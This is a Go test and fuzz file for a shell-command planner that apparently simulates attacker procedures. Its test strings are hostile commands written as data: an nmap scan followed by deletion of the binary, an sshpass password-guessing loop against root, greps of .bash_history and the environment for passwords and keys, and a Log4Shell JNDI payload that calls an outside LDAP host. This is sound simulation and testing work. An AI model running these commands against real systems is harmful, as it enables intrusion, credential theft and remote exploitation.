package simulate

import (
	"reflect"
	"strings"
	"testing"
)

// render prints a plan compactly: exec as argv joined by spaces, forks as
// fork{...}, pipelines as a|b, background with a trailing &.
func render(steps []shStep) string {
	var parts []string
	for _, st := range steps {
		var ps []string
		for _, p := range st.procs {
			if p.fork {
				ps = append(ps, "fork{"+render(p.body)+"}")
				continue
			}
			ps = append(ps, strings.Join(p.argv, " ")+"@"+p.cwd)
		}
		s := strings.Join(ps, "|")
		if st.background {
			s += "&"
		}
		parts = append(parts, s)
	}
	return strings.Join(parts, "; ")
}

func TestPlanShell(t *testing.T) {
	tests := []struct{ payload, want string }{
		{"chmod +x /tmp/nmap", "chmod +x /tmp/nmap@/w"},
		{"cd /tmp ; ls -la", "ls -la@/tmp"},
		{"echo hi ; export A=1", ""},
		{"chmod +x /tmp/nmap ; ( /tmp/nmap -Pn -F 172.16.1.4; /tmp/nmap -Pn -p 8530,8531 172.16.1.4 ) 2>/dev/null | grep open ; rm /tmp/nmap",
			"chmod +x /tmp/nmap@/w; fork{/tmp/nmap -Pn -F 172.16.1.4@/w; /tmp/nmap -Pn -p 8530,8531 172.16.1.4@/w}|grep open@/w; rm /tmp/nmap@/w"},
		{"a && b || c", "a@/w; b@/w"},
		{"echo x | grep -c x", "fork{}|grep -c x@/w"},
		{`for p in a b; do sshpass -p "$p" ssh root@h id; done`, "sshpass -p a ssh root@h id@/w; sshpass -p b ssh root@h id@/w"},
		{"python3 srv.py &", "python3 srv.py@/w&"},
		{"cd ~ && cat ~/.bash_history | grep -e 'pass'", "cat /root/.bash_history@/root|grep -e pass@/root"},
		{"X=1 env | grep -i key", "env@/w|grep -i key@/w"},
		{`ssh root@h "python3 -c 'print(\"a b\")' &"`, `ssh root@h python3 -c 'print("a b")' &@/w`},
		{`curl -H 'X-Api-Version: ${jndi:ldap://1.2.3.4:1389/a}' http://h/`, "curl -H X-Api-Version: ${jndi:ldap://1.2.3.4:1389/a} http://h/@/w"},
	}
	for _, tt := range tests {
		steps, err := planShell(tt.payload, "/w", "/root")
		if err != nil {
			t.Fatalf("%s: %v", tt.payload, err)
		}
		if got := render(steps); got != tt.want {
			t.Errorf("planShell(%q)\n got %s\nwant %s", tt.payload, got, tt.want)
		}
	}
	steps, _ := planShell("X=1 env", "/", "/root")
	if !reflect.DeepEqual(steps[0].procs[0].env, []string{"X=1"}) {
		t.Errorf("env prefix lost: %+v", steps[0].procs[0])
	}
	if _, err := planShell("if then", "/", "/root"); err == nil {
		t.Error("syntax error accepted")
	}
}

// FuzzPlanShell: the planner never panics, whatever the payload.
func FuzzPlanShell(f *testing.F) {
	for _, p := range []string{
		"chmod +x /tmp/nmap ; ( /tmp/nmap -Pn -F 172.16.1.4; /tmp/nmap -Pn -p 8530,8531 172.16.1.4 ) 2>/dev/null | grep open ; rm /tmp/nmap",
		`for p in a b; do sshpass -p "$p" ssh root@h id; done`, "a=(1 2) b", "x=$(id) && echo ${x:-y} | tr a b &",
		"if true; then :; elif false; then a; else b; fi", "while read l; do echo $l; done < f", "f() { ls; }; f",
		"export A B=2; local c; declare -a d", "{ a; b; } | c", "cd; cd -; cd ~/x",
	} {
		f.Add(p)
	}
	for _, d := range floramaProcedures("u") {
		for _, p := range d.payloads {
			f.Add(p)
		}
	}
	f.Fuzz(func(t *testing.T, payload string) {
		if len(payload) > 4096 {
			t.Skip()
		}
		planShell(payload, "/", "/root")
	})
}
